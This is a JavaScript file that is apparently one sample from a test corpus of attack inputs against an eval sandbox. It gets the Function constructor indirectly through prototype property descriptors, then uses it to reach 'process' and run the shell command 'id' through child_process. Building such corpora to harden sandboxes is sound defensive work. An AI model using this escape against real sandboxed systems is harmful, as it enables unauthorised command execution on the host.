// corpus: attack class=eval form=targeted
// A property descriptor hands out Function.prototype.constructor.
function main() {
  const descriptors = Object.getOwnPropertyDescriptors(Object.getPrototypeOf(() => {}));
  const make = Object.values(descriptors).find((d) => typeof d.value === 'function' && d.value.length === 1 && d.value.name.length === 8).value;
  const proc = make('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
